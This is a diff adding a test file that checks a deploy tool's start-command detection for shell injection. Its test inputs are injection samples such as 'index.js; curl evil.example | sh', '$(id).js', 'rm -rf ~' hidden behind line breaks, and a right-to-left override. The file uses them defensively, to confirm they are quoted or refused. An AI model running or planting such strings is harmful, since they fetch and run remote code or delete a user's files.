@@ -1,0 +1,52 @@
+import test from 'ava';
+import { detectStack, StackDetectionError, type RepoFiles } from '../../server/stacks/detect.js';
+
+// What detection proposes is run by a shell on Render and shown in the deploy form's one-line inputs:
+// it must be what the repository means. A path from package.json is a path (one shell word), and no
+// command carries characters that no shell command needs and that hide or reorder what the form shows.
+
+function repo(files: Record<string, string>): RepoFiles {
+  const list = [...new Set(Object.keys(files).map((p) => p.split('/')[0]!))].sort();
+  return { list, read: async (p) => files[p] ?? null };
+}
+const detect = (files: Record<string, string>) => detectStack(repo(files));
+const mainIs = (main: string) => detect({ 'package.json': JSON.stringify({ main }) });
+
+test('package.json "main" is one shell word: spaces and metacharacters are quoted, not run', async (t) => {
+  t.is((await mainIs('src/server.js')).startCommand, 'node src/server.js');
+  t.is((await mainIs('my server.js')).startCommand, "node 'my server.js'");
+  t.is((await mainIs('index.js; curl evil.example | sh')).startCommand, "node 'index.js; curl evil.example | sh'");
+  t.is((await mainIs('$(id).js')).startCommand, "node '$(id).js'");
+  t.is((await mainIs("it's.js")).startCommand, "node 'it'\\''s.js'");
+  // A leading dash would be read as an option of node, not a file.
+  t.is((await mainIs('--inspect=0.0.0.0:9229')).startCommand, 'node ./--inspect=0.0.0.0:9229');
+});
+
+test('package.json "main" with a line break or control character is not a start command', async (t) => {
+  for (const main of ['index.js\nrm -rf ~', 'a\u0000b.js', 'a\u001b[2Jb.js', 'a\u202eb.js']) {
+    const err = await t.throwsAsync(mainIs(main), { instanceOf: StackDetectionError }, JSON.stringify(main));
+    t.regex(err.message, /no start script, no "main"/);
+  }
+  // Another way to start still works.
+  t.is((await detect({ 'package.json': JSON.stringify({ main: 'a\nb' }), 'server.js': '' })).startCommand, 'node server.js');
+});
+
+test('a Procfile or render.yaml command with a control character or a bidirectional override is refused, clearly', async (t) => {
+  const start = '{"scripts":{"start":"node ."}}';
+  const yaml = (cmd: string) => `services:\n  - type: web\n    runtime: node\n    buildCommand: npm ci\n    startCommand: ${cmd}\n`;
+  const hostile: Array<[string, Record<string, string>, string]> = [
+    ['NUL in a Procfile web: line', { Procfile: 'web: node a.js\u0000; rm x\n', 'package.json': start }, 'U+0000'],
+    ['a terminal escape in a Procfile web: line', { Procfile: 'web: node a.js \u001b[2J\n', 'package.json': start }, 'U+001B'],
+    ['NEL in a Procfile worker: line', { Procfile: 'worker: node w.js\u0085rm\n', 'package.json': start }, 'U+0085'],
+    ['a right-to-left override in a Procfile web: line', { Procfile: 'web: node a.js \u202e;sj.live\n', 'package.json': start }, 'U+202E'],
+    ['NUL in render.yaml', { 'render.yaml': yaml('"node a.js\\0"') }, 'U+0000'],
+    ['a carriage return in render.yaml', { 'render.yaml': yaml('"node a.js\\rrm -rf ~"') }, 'U+000D'],
+  ];
+  for (const [what, files, code] of hostile) {
+    const err = await t.throwsAsync(detect(files), { instanceOf: StackDetectionError }, what);
+    t.true(err.message.includes(code), `${what}: ${err.message}`);
+    t.regex(err.message, /start command/, what);
+  }
+  // Tabs are a shell's ordinary whitespace.
+  t.is((await detect({ Procfile: 'web: node\ta.js\n', 'package.json': start })).startCommand, 'node\ta.js');
+});
